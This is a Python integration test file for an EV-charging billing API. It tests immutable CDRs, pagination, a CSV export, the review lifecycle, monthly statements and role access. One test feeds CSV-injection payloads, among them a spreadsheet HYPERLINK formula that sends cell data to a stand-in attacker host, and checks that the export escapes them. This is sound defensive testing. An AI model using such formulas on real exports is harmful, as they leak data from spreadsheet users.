"""Issued CDRs, held sessions and statements against the real database: the tables'
immutability, idempotent issue, filters and pagination, the CSV export equal to the
stored CDRs to the cent, the review lifecycle with its audit and 409s, statements with
credits, and the roles."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import httpx
import msgspec
import psycopg
import pytest

from billing.preview import decode_json, encode_cdr
from bus.sessions import Quality, SessionClosed
from store import billing_reviews as review_store
from store import cdrs as cdr_store
from tests.support.api import api_client, assert_problem, auth
from tests.support.cdrs import closed_session, credit_of, issued_cdr

pytestmark = pytest.mark.integration

T0 = datetime(2026, 3, 2, 15, 0, tzinfo=UTC)


async def _issue(
    conn: psycopg.AsyncConnection[Any],
    cdr: dict[str, Any],
    *,
    station: str = "CP-1",
    site: str | None = "SITE-1",
    id_tag: str | None = "TAG-1",
    customer: str | None = "ACME",
) -> bool:
    return await cdr_store.insert_cdr(
        conn,
        cdr,
        charge_point_id=station,
        connector_id=1,
        site_id=site,
        id_tag=id_tag,
        customer=customer,
    )


async def _connect(url: str) -> psycopg.AsyncConnection[Any]:
    return await psycopg.AsyncConnection.connect(url, autocommit=True)


async def test_cdrs_are_immutable_and_issued_once(clean_db: str) -> None:
    cdr = issued_cdr(closed_session(T0))
    async with await _connect(clean_db) as conn:
        assert await _issue(conn, cdr) is True
        # The same id again (a replay, or a different body): nothing stored, nothing changed.
        assert await _issue(conn, cdr) is False
        changed = {**cdr, "total_cost": {"excl_vat": Decimal("99.00"), "incl_vat": Decimal(1)}}
        assert await _issue(conn, changed, customer="OTHER") is False
        stored = await cdr_store.get_cdr(conn, cdr["id"])
        assert stored is not None
        assert decode_json(stored, "cdr") == decode_json(encode_cdr(cdr), "cdr")
        for statement in (
            "UPDATE cdrs SET customer = 'X'",
            "UPDATE cdrs SET body = '{}'::jsonb",
            "DELETE FROM cdrs",
        ):
            with pytest.raises(psycopg.errors.RestrictViolation, match="immutable"):
                await conn.execute(statement)
        rows = await (await conn.execute("SELECT count(*), min(customer) FROM cdrs")).fetchone()
        assert rows == (1, "ACME")
        # A credit CDR is a row of its own; its amounts are negative in minor units.
        credit = credit_of(cdr)
        assert await _issue(conn, credit) is True
        row = await (
            await conn.execute(
                "SELECT revision, credit, credit_reference_id, total_excl_minor, energy_wh"
                " FROM cdrs WHERE cdr_id = %s",
                (credit["id"],),
            )
        ).fetchone()
        excl = int(cdr["total_cost"]["excl_vat"] * 100)
        assert row == (1, True, cdr["id"], -excl, 7_500)
        # A total finer than the currency's minor unit is refused, not rounded.
        bad = issued_cdr(closed_session(T0))
        bad["total_cost"] = {"excl_vat": Decimal("1.005"), "incl_vat": Decimal("1.22")}
        with pytest.raises(ValueError, match="minor units"):
            await _issue(conn, bad)


async def test_the_review_audit_is_append_only(clean_db: str) -> None:
    async with await _connect(clean_db) as conn:
        session = closed_session(T0, quality=Quality.CORRECTED)
        assert await review_store.hold_session(conn, session, ["quality corrected"]) is True
        for statement in ("UPDATE billing_review_events SET actor = 'x'",
                          "DELETE FROM billing_review_events"):  # fmt: skip
            with pytest.raises(psycopg.errors.RestrictViolation, match="append-only"):
                await conn.execute(statement)


async def _seed_listing(url: str) -> list[dict[str, Any]]:
    """Eight CDRs on two stations, two customers, with one credit; oldest first."""
    cdrs = []
    async with await _connect(url) as conn:
        for k in range(8):
            session = closed_session(T0 + timedelta(hours=k), energy_wh=1_000 + 111 * k)
            cdr = issued_cdr(session)
            station = "CP-1" if k % 2 == 0 else "CP-2"
            customer = "ACME" if k < 6 else "GLOBEX"
            await _issue(conn, cdr, station=station, customer=customer, site=f"S-{k % 2}")
            cdrs.append({**cdr, "_station": station, "_customer": customer})
        credit = credit_of(cdrs[0])
        await _issue(conn, credit, station="CP-1", customer="ACME", site="S-0")
        cdrs.insert(1, {**credit, "_station": "CP-1", "_customer": "ACME"})
    return cdrs


async def test_listing_filters_and_pagination(clean_db: str, keys: dict[str, str]) -> None:
    cdrs = await _seed_listing(clean_db)
    headers = auth(keys["billing"])
    async with api_client(clean_db) as client:
        seen: list[str] = []
        cursor = None
        pages = 0
        while True:
            params: dict[str, Any] = {"limit": 4, **({"cursor": cursor} if cursor else {})}
            resp = await client.get("/v1/cdrs", params=params, headers=headers)
            assert resp.status_code == 200, resp.text
            page = resp.json()
            seen += [item["cdr_id"] for item in page["items"]]
            pages += 1
            cursor = page["next_cursor"]
            if cursor is None:
                break
        assert pages == 3
        # (start_date_time, cdr_id): the credit shares its original's start.
        expected = sorted(cdrs, key=lambda c: (c["start_date_time"], c["id"]))
        assert seen == [c["id"] for c in expected]

        async def listed(**params: Any) -> list[str]:
            resp = await client.get("/v1/cdrs", params=params, headers=headers)
            assert resp.status_code == 200, resp.text
            return [item["cdr_id"] for item in resp.json()["items"]]

        on_cp2 = [c["id"] for c in expected if c["_station"] == "CP-2"]
        assert await listed(station="CP-2") == on_cp2
        assert await listed(site="S-1") == on_cp2
        assert await listed(customer="GLOBEX") == [cdrs[7]["id"], cdrs[8]["id"]]
        assert await listed(credit="true") == [cdrs[1]["id"]]
        assert len(await listed(credit="false")) == 8
        assert await listed(id_tag="NOPE") == []
        window = {"from": "2026-03-02T16:00:00Z", "to": "2026-03-02T18:00:00Z"}
        assert await listed(**window) == [cdrs[2]["id"], cdrs[3]["id"]]
        item = (await client.get("/v1/cdrs", params={"credit": "true"}, headers=headers)).json()
        credit = item["items"][0]
        assert Decimal(credit["total_excl_vat"]) == cdrs[1]["total_cost"]["excl_vat"] < 0
        assert credit["credit_reference_id"] == cdrs[0]["id"]

        # One CDR exactly as issued: the same JSON numbers, digit for digit.
        resp = await client.get(f"/v1/cdrs/{cdrs[1]['id']}", headers=headers)
        assert resp.status_code == 200
        assert resp.headers["content-type"] == "application/json"
        body = decode_json(resp.content, "cdr")
        assert body["total_cost"] == cdrs[1]["total_cost"]
        assert str(body["total_cost"]["excl_vat"]) == str(cdrs[1]["total_cost"]["excl_vat"])
        assert_problem(await client.get("/v1/cdrs/" + "0" * 32, headers=headers), 404)
        assert_problem(await client.get("/v1/cdrs/not-an-id", headers=headers), 422)
        bad = {"from": "2026-03-03T00:00:00Z", "to": "2026-03-02T00:00:00Z"}
        assert_problem(await client.get("/v1/cdrs", params=bad, headers=headers), 422)
        assert_problem(await client.get("/v1/cdrs", params={"cursor": "x"}, headers=headers), 422)


async def test_the_csv_export_is_the_stored_cdrs_to_the_cent(
    clean_db: str, keys: dict[str, str]
) -> None:
    cdrs = await _seed_listing(clean_db)
    async with api_client(clean_db) as client:
        resp = await client.get("/v1/cdrs/export.csv", headers=auth(keys["admin"]))
        assert resp.status_code == 200, resp.text
        assert resp.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(resp.text)))
        filtered = await client.get(
            "/v1/cdrs/export.csv", params={"customer": "GLOBEX"}, headers=auth(keys["billing"])
        )
        assert [r["cdr_id"] for r in csv.DictReader(io.StringIO(filtered.text))] == [
            cdrs[7]["id"],
            cdrs[8]["id"],
        ]
    expected = sorted(cdrs, key=lambda c: (c["start_date_time"], c["id"]))
    assert [r["cdr_id"] for r in rows] == [c["id"] for c in expected]
    for row, cdr in zip(rows, expected, strict=True):
        assert row["session_id"] == cdr["session_id"]
        assert row["credit"] == ("true" if cdr["credit"] else "false")
        assert row["credit_reference_id"] == cdr.get("credit_reference_id", "")
        assert row["charge_point_id"] == cdr["_station"]
        assert row["customer"] == cdr["_customer"]
        assert row["start"] == cdr["start_date_time"]
        assert row["end"] == cdr["end_date_time"]
        assert row["currency"] == "EUR"
        # Exact decimals: the same value and the same number of decimal places.
        assert Decimal(row["energy_kwh"]) == cdr["total_energy"]
        for column, part in (("total_excl_vat", "excl_vat"), ("total_incl_vat", "incl_vat")):
            assert row[column] == str(cdr["total_cost"][part]), (column, row, cdr["total_cost"])


async def test_the_csv_export_escapes_formulas_but_not_negative_amounts(
    clean_db: str, keys: dict[str, str]
) -> None:
    """OWASP CSV injection: a text cell a spreadsheet would evaluate (= + - @ tab CR)
    gets a leading apostrophe; a credit's negative amounts stay numbers."""
    link = '=HYPERLINK("http://evil.example/?x="&A1,"refund")'
    cdr = issued_cdr(closed_session(T0, id_tag=link))
    async with await _connect(clean_db) as conn:
        await _issue(conn, cdr, id_tag=link, customer="@SUM(1+1)", station="-CP", site="+S")
        await _issue(conn, credit_of(cdr), id_tag="\tTAB", customer="\rCR", site="S-1")
    async with api_client(clean_db) as client:
        resp = await client.get("/v1/cdrs/export.csv", headers=auth(keys["billing"]))
    assert resp.status_code == 200, resp.text
    original, credit = list(csv.DictReader(io.StringIO(resp.text)))
    assert original["id_tag"] == "'" + link
    assert (original["customer"], original["charge_point_id"], original["site_id"]) == (
        "'@SUM(1+1)",
        "'-CP",
        "'+S",
    )
    assert (credit["id_tag"], credit["customer"], credit["site_id"]) == ("'\tTAB", "'\rCR", "S-1")
    assert credit["total_excl_vat"] == str(-cdr["total_cost"]["excl_vat"])
    assert credit["total_incl_vat"].startswith("-")
    assert Decimal(credit["total_incl_vat"]) == -cdr["total_cost"]["incl_vat"]


async def _refuse_incomplete_decisions(
    client: httpx.AsyncClient, base: str, held: dict[str, SessionClosed], billing: dict[str, str]
) -> None:
    """Missing reasons and energy are 422s that change nothing."""
    assert_problem(
        await client.post(
            base.format(held["correct"].session_id, "correct"), json={"note": "x"}, headers=billing
        ),
        422,
    )
    assert_problem(
        await client.post(
            base.format(held["write-off"].session_id, "write-off"),
            json={"note": "   "},
            headers=billing,
        ),
        422,
    )


async def _decide_each_once(
    client: httpx.AsyncClient,
    base: str,
    held: dict[str, SessionClosed],
    billing: dict[str, str],
    admin: dict[str, str],
) -> None:
    decisions = {
        "release": None,
        "correct": {"corrected_energy_wh": 7_400, "note": "meter photo"},
        "write-off": {"note": "goodwill"},
    }
    outcome = {"release": "released", "correct": "corrected", "write-off": "written_off"}
    for name, body in decisions.items():
        session_id = held[name].session_id
        resp = await client.post(base.format(session_id, name), json=body, headers=billing)
        assert resp.status_code == 200, resp.text
        decided = resp.json()
        assert decided["decided_by"] == "test-billing"
        assert decided["status"] == outcome[name]
        # Deciding again, in any way, is a 409 that changes nothing.
        for again, again_body in decisions.items():
            resp = await client.post(base.format(session_id, again), json=again_body, headers=admin)
            assert "decided already" in assert_problem(resp, 409)["detail"]


async def test_review_lifecycle_with_audit_and_conflicts(
    clean_db: str, keys: dict[str, str]
) -> None:
    held = {
        name: closed_session(T0 + timedelta(hours=k), quality=Quality.CORRECTED)
        for k, name in enumerate(("release", "correct", "write-off"))
    }
    async with await _connect(clean_db) as conn:
        for session in held.values():
            assert await review_store.hold_session(conn, session, ["quality corrected"]) is True
            # A replayed sessions.closed holds nothing twice.
            assert await review_store.hold_session(conn, session, ["again"]) is False
    billing = auth(keys["billing"])
    async with api_client(clean_db) as client:
        resp = await client.get("/v1/billing/reviews", params={"status": "held"}, headers=billing)
        assert resp.status_code == 200, resp.text
        assert [r["session_id"] for r in resp.json()["items"]] == [
            s.session_id for s in held.values()
        ]
        first = await client.get("/v1/billing/reviews", params={"limit": 2}, headers=billing)
        cursor = first.json()["next_cursor"]
        rest = await client.get("/v1/billing/reviews", params={"cursor": cursor}, headers=billing)
        assert [r["session_id"] for r in rest.json()["items"]] == [held["write-off"].session_id]

        base = "/v1/billing/reviews/{}/{}"
        await _refuse_incomplete_decisions(client, base, held, billing)
        await _decide_each_once(client, base, held, billing, auth(keys["admin"]))
        assert_problem(
            await client.post(base.format("no-such-session", "release"), headers=billing), 404
        )
        resp = await client.get("/v1/billing/reviews", params={"status": "held"}, headers=billing)
        assert resp.json()["items"] == []
    async with await _connect(clean_db) as conn:
        review = await review_store.get_review(conn, held["correct"].session_id)
        assert review is not None
        assert (review.status, review.corrected_energy_wh, review.energy_wh) == (
            "corrected",
            7_400,
            7_500,
        )
        history = await review_store.review_history(conn, held["correct"].session_id)
    assert [(e.actor, e.action) for e in history] == [
        ("chargeflow", "held"),
        ("test-billing", "corrected"),
    ]
    decision = history[1]
    assert decision.note == "meter photo"
    assert decision.before is not None
    assert decision.before["status"] == "held"
    assert decision.after["status"] == "corrected"
    assert decision.after["corrected_energy_wh"] == 7_400


async def test_a_session_without_an_energy_figure_is_corrected_not_released(
    clean_db: str, keys: dict[str, str]
) -> None:
    session = msgspec.structs.replace(
        closed_session(T0, quality=Quality.MISSING), energy_wh=None, energy_source=None
    )
    async with await _connect(clean_db) as conn:
        await review_store.hold_session(conn, session, ["quality missing"])
    base = f"/v1/billing/reviews/{session.session_id}"
    async with api_client(clean_db) as client:
        resp = await client.post(f"{base}/release", headers=auth(keys["billing"]))
        assert "no energy figure" in assert_problem(resp, 409)["detail"]
        resp = await client.post(
            f"{base}/correct",
            json={"corrected_energy_wh": 5_000, "note": "read on site"},
            headers=auth(keys["billing"]),
        )
        assert resp.status_code == 200, resp.text
        assert (resp.json()["status"], resp.json()["cdr_id"]) == ("corrected", None)


async def test_statement_totals_include_credits(clean_db: str, keys: dict[str, str]) -> None:
    # Local month March 2026 in Amsterdam: from 2026-02-28T23:00Z to 2026-03-31T22:00Z.
    inside_first = closed_session(datetime(2026, 2, 28, 23, 30, tzinfo=UTC), energy_wh=10_000)
    inside_last = closed_session(datetime(2026, 3, 31, 21, 0, tzinfo=UTC), energy_wh=3_000)
    outside = closed_session(datetime(2026, 3, 31, 22, 0, tzinfo=UTC), energy_wh=5_000)
    other_customer = closed_session(datetime(2026, 3, 10, 12, 0, tzinfo=UTC))
    first, last = issued_cdr(inside_first), issued_cdr(inside_last)
    credit = credit_of(first)
    async with await _connect(clean_db) as conn:
        for cdr in (first, last, credit, issued_cdr(outside)):
            await _issue(conn, cdr, customer="ACME & <Sons>")
        await _issue(conn, issued_cdr(other_customer), customer="GLOBEX")
    excl = last["total_cost"]["excl_vat"]  # the first and its credit cancel out
    incl = last["total_cost"]["incl_vat"]
    path = "/v1/customers/ACME%20%26%20%3CSons%3E/statements/2026-03"
    async with api_client(clean_db) as client:
        resp = await client.get(
            path, params={"time_zone": "Europe/Amsterdam"}, headers=auth(keys["billing"])
        )
        assert resp.status_code == 200, resp.text
        body = resp.json()
        in_month = [*sorted([first["id"], credit["id"]]), last["id"]]
        assert [line["cdr_id"] for line in body["lines"]] == in_month
        assert body["totals"] == [
            {"currency": "EUR", "total_excl_vat": str(excl), "total_incl_vat": str(incl)}
        ]
        assert any(Decimal(line["total_incl_vat"]) < 0 for line in body["lines"])
        # In UTC the month is another: 28 Feb 23:30Z leaves it, 31 March 22:00Z joins it.
        utc = (await client.get(path, headers=auth(keys["admin"]))).json()
        assert [line["cdr_id"] for line in utc["lines"]] == [last["id"], issued_cdr(outside)["id"]]
        html = await client.get(
            path + ".html", params={"time_zone": "Europe/Amsterdam"}, headers=auth(keys["admin"])
        )
        assert html.status_code == 200, html.text
        assert html.headers["content-type"].startswith("text/html")
        assert "ACME &amp; &lt;Sons&gt;" in html.text
        assert "<Sons>" not in html.text
        assert f"{incl} EUR" in html.text
        assert "2026-03-01 00:30" in html.text  # local time
        empty = await client.get(
            "/v1/customers/NOBODY/statements/2026-03", headers=auth(keys["billing"])
        )
        assert empty.json()["lines"] == []
        assert empty.json()["totals"] == []
        for bad in ("2026-13", "26-03", "2026-03.pdf"):
            resp = await client.get(
                f"/v1/customers/ACME/statements/{bad}", headers=auth(keys["billing"])
            )
            assert resp.status_code in (404, 422), (bad, resp.status_code)
            assert_problem(resp, resp.status_code)
        for zone in ("Mars/Olympus", "../etc"):
            resp = await client.get(
                "/v1/customers/ACME/statements/2026-03",
                params={"time_zone": zone},
                headers=auth(keys["billing"]),
            )
            assert_problem(resp, 422)


async def test_roles(clean_db: str, keys: dict[str, str]) -> None:
    cdr = issued_cdr(closed_session(T0))
    session = closed_session(T0, quality=Quality.ESTIMATED)
    async with await _connect(clean_db) as conn:
        await _issue(conn, cdr)
        await review_store.hold_session(conn, session, ["quality estimated"])
    reads = (
        "/v1/cdrs",
        f"/v1/cdrs/{cdr['id']}",
        "/v1/cdrs/export.csv",
        "/v1/billing/reviews",
        "/v1/customers/ACME/statements/2026-03",
        "/v1/customers/ACME/statements/2026-03.html",
    )
    release = f"/v1/billing/reviews/{session.session_id}/release"
    async with api_client(clean_db) as client:
        for role in ("operator", "maintenance", "public"):
            for path in reads:
                resp = await client.get(path, headers=auth(keys[role]))
                assert role in assert_problem(resp, 403)["detail"], path
            assert_problem(await client.post(release, headers=auth(keys[role])), 403)
        for path in reads:
            assert_problem(await client.get(path), 401)
        for role in ("billing", "admin"):
            for path in reads:
                resp = await client.get(path, headers=auth(keys[role]))
                assert resp.status_code == 200, (role, path, resp.text)
        # The refused callers decided nothing.
        resp = await client.get("/v1/billing/reviews", headers=auth(keys["admin"]))
        assert resp.json()["items"][0]["status"] == "held"
